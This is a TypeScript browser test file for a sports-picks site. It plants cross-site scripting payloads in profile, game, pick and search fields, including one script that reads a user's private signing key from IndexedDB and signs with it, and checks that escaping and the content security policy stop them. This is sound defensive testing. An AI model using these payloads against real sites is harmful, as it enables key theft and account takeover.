import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect } from 'chai';
import type { Page } from 'playwright-core';
import { makeInvite } from '../../src/cappers/key-changes.ts';
import { saveProfile } from '../../src/cappers/profiles.ts';
import { sealAll } from '../../src/ledger/sealing/seal.ts';
import { updateProjections } from '../../src/projections/update.ts';
import { signedBytes } from '../../src/proof/capper-key.ts';
import { type RunningApi, startApi } from '../support/api.ts';
import { beginTestLog, firstKey, testOrigin } from '../support/author.ts';
import { withBrowser } from '../support/browser.ts';
import { withDatabase } from '../support/database.ts';
import { withRedis } from '../support/redis.ts';

/** Marks an element that came from a field of a stranger. */
const mark = 'data-injected';
/** Uses the capper's key if it runs. */
const use = `owned=1;indexedDB.open('public-picks').onsuccess=e=>e.target.result.transaction('keys').objectStore('keys').get('ada').onsuccess=r=>crypto.subtle.sign('Ed25519',r.target.result.privateKey,new Uint8Array(9))`;

describe('a signing key, on pages with injected content of every field that a stranger can set', () => {
  const stores = withDatabase({ kind: 'live' });
  const redis = withRedis();
  const browser = withBrowser();
  const startsAt = new Date(Math.ceil(Date.now() / 3_600_000) * 3_600_000 + 6 * 3_600_000).toISOString();
  const asked: string[] = [];
  const elsewhere = createServer((request, response) => {
    asked.push(request.url ?? '');
    response
      .writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' })
      .end(use);
  });
  let site: RunningApi;
  let capperId = 0;
  let paths: string[] = [];

  before(async () => {
    await new Promise<void>((listening) => elsewhere.listen(0, '127.0.0.1', listening));
    const evil = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
    const payloads = [
      `<script ${mark}>${use}</script>`,
      `<script ${mark} src="${evil}/script.js"></script>`,
      `<script ${mark} type=module>import "${evil}/module.js"</script>`,
      `<script ${mark} src="data:text/javascript,owned=1"></script>`,
      `<script ${mark} src="/record/export.csv"></script><script src="/api/feed/picks"></script>`,
      `<img ${mark} src=x onerror="${use}">`,
      `<img ${mark} src="${evil}/image.png"><link rel=stylesheet href="${evil}/style.css">`,
      `<svg ${mark} onload="${use}"><animate onbegin="owned=1" attributeName=x dur=1s></svg>`,
      `<iframe ${mark} srcdoc="<script>parent.owned=1</script>"></iframe>`,
      `<iframe ${mark} src="javascript:parent.owned=1"></iframe><iframe src="${evil}/frame"></iframe>`,
      `<object ${mark} data="${evil}/object"></object><embed src="${evil}/embed">`,
      `<a ${mark} class=tempting href="javascript:owned=1">x</a>`,
      `<form ${mark} action="${evil}/form"><button class=tempting>x</button></form>`,
      `<details ${mark} open ontoggle="${use}">x</details><input autofocus onfocus="owned=1">`,
    ];
    const { owner } = stores;
    const insert = async (table: string, rows: object | object[]) =>
      (await owner(table).insert(rows).returning('id')) as { id: number }[];
    [{ id: capperId }] = (await insert('cappers', {
      handle: 'ada',
      tier: 'listed',
      verified: true,
      created_at: new Date(),
      display_name: `<b ${mark}>Ada</b>`,
    })) as [{ id: number }];
    const [{ id: gameId }] = (await insert('games', {
      sport: 'nba',
      name: `<i ${mark}>Hawks</i> @ Otters<img ${mark} src=x onerror="owned=1">`,
      announced_start: startsAt,
      starts_at: startsAt,
    })) as [{ id: number }];
    const picks = await insert(
      'picks',
      payloads.map((pick, index) => ({
        uuid: crypto.randomUUID(),
        capper_id: capperId,
        tier: 'listed',
        game_id: gameId,
        starts_at: startsAt,
        market: 'question',
        subject: `<u ${mark}>Will it ${index}</u>`,
        side: 'yes',
        pick,
        odds_american: 110,
        stake_e4: 10_000,
        source: 'operator',
        provenance: 'live',
        posted_at: new Date(),
      })),
    );
    await insert('lines', {
      game_id: gameId,
      market: 'question',
      subject: `<u ${mark}>Will it 1</u>`,
      side: 'yes',
      line_e3: null,
      odds_american: 110,
      book: 'a-book',
      closing: false,
      captured_at: new Date(),
    });
    const [{ id: otherId }] = (await insert('cappers', {
      handle: 'bea',
      tier: 'listed',
      verified: true,
      created_at: new Date(),
    })) as [{ id: number }];
    await insert('notices', { at: new Date(), topic: 'remark', text: payloads.slice(1, 5).join('') });
    await beginTestLog(stores.database);
    const bea = { id: otherId, handle: 'bea' };
    const key = await firstKey(stores.database, bea, Date.now());
    const about = `<img ${mark} src=x onerror="owned=1"><a ${mark} class=tempting href="javascript:owned=1">x</a>`;
    const profile = {
      origin: testOrigin,
      capper: 'bea',
      display_name: `<b ${mark}>Bea</b>`,
      about,
      link: `https://bea.example/"${mark}="onmouseover="owned=1`,
      at: new Date().toISOString(),
    };
    const signature = await key.sign(signedBytes('profile/v1', profile));
    await saveProfile(stores.database, bea, { profile, key: key.id, signature }, Date.now());
    await sealAll(stores.database);
    await updateProjections(stores.database);
    site = await startApi(
      { database: stores, redis },
      { clock: { now: () => Date.now() }, logKind: () => 'live' },
    );
    const uuids: string[] = await owner('picks').orderBy('id').pluck('uuid');
    const query = encodeURIComponent(`${payloads[5]}" onfocus="owned=1" autofocus x="`);
    paths = [
      ...['/', '/c/ada', '/c/bea', '/leaderboard', '/status', '/join', '/post', `/game/${gameId}`, '/picks'],
      ...[`/record/${picks[0]!.id}`, `/search?q=${query}`, `/c/${query}`, `/leaderboard?sport=${query}`],
      ...uuids.map((uuid) => `/p/${uuid}`),
    ];
  });
  after(async () => {
    await site?.close();
    elsewhere.closeAllConnections();
    await new Promise((closed) => elsewhere.close(closed));
  });

  /** Opens a browser in which the capper has a key, and counts uses of it by scripts other than the site's from then on. */
  async function withKey(): Promise<Page> {
    const { page } = await browser.open();
    const { token } = await makeInvite(stores.database, capperId, Date.now());
    await page.goto(`${site.address}/join#ada.${token}`);
    await page.waitForSelector('html[data-ready]');
    await page.click('#make');
    await page.waitForSelector('#made:not([hidden])');
    await page.addInitScript(`
      const { sign } = SubtleCrypto.prototype;
      window.uses = 0;
      SubtleCrypto.prototype.sign = function (...given) {
        if (!new Error().stack.includes('/assets/')) window.uses += 1;
        return sign.apply(this, given);
      };`);
    return page;
  }

  const seen = (page: Page) =>
    page.evaluate(
      `({ owned: window.owned, uses: window.uses, injected: document.querySelectorAll('[${mark}]').length })`,
    ) as Promise<{ owned: unknown; uses: number; injected: number }>;

  async function visit(page: Page, path: string): Promise<Awaited<ReturnType<typeof seen>>> {
    await page.goto(site.address + path, { waitUntil: 'load' });
    for (const each of await page.locator('.tempting').all()) await each.dispatchEvent('click');
    // Lets handlers and timers of the content run.
    await page.evaluate('new Promise((done) => requestAnimationFrame(() => setTimeout(done, 50)))');
    return seen(page);
  }

  it('is not used, because no field becomes an element', async () => {
    const page = await withKey();
    for (const path of paths)
      expect(await visit(page, path), path).to.deep.equal({ owned: undefined, uses: 0, injected: 0 });
    expect(asked).to.deep.equal([]);
  });

  /** Makes every page show its fields without escaping, as a bug could. */
  async function withoutEscaping(page: Page, policy: boolean): Promise<void> {
    await page.route(`${site.address}/**`, async (route) => {
      const response = await route.fetch().catch(() => undefined);
      if (response === undefined) return route.abort();
      const { 'content-security-policy': own, ...headers } = response.headers();
      if (headers['content-type']?.startsWith('text/html') !== true) return route.fulfill({ response });
      const body = (await response.text())
        .replaceAll('&lt;', '<')
        .replaceAll('&gt;', '>')
        .replaceAll('&quot;', '"')
        .replaceAll('&#34;', '"')
        .replaceAll('&#39;', "'")
        .replaceAll('&amp;', '&');
      return route.fulfill({
        status: response.status(),
        headers: policy ? { ...headers, 'content-security-policy': own! } : headers,
        body,
      });
    });
  }

  it('is not used even where escaping fails, because pages run no script but their own', async () => {
    const page = await withKey();
    await withoutEscaping(page, true);
    let injected = 0;
    for (const path of paths) {
      const found = await visit(page, path);
      expect([found.owned, found.uses], path).to.deep.equal([undefined, 0]);
      injected += found.injected;
    }
    expect(injected).to.be.above(paths.length);
    expect(asked).to.deep.equal([]);
  });

  it('would be used without the policy of pages, so these tests can fail', async () => {
    const page = await withKey();
    await withoutEscaping(page, false);
    const pick = paths.find((path) => path.startsWith('/p/'))!;
    await page.goto(site.address + pick);
    await page.waitForFunction('window.owned === 1 && window.uses > 0');
  });
});
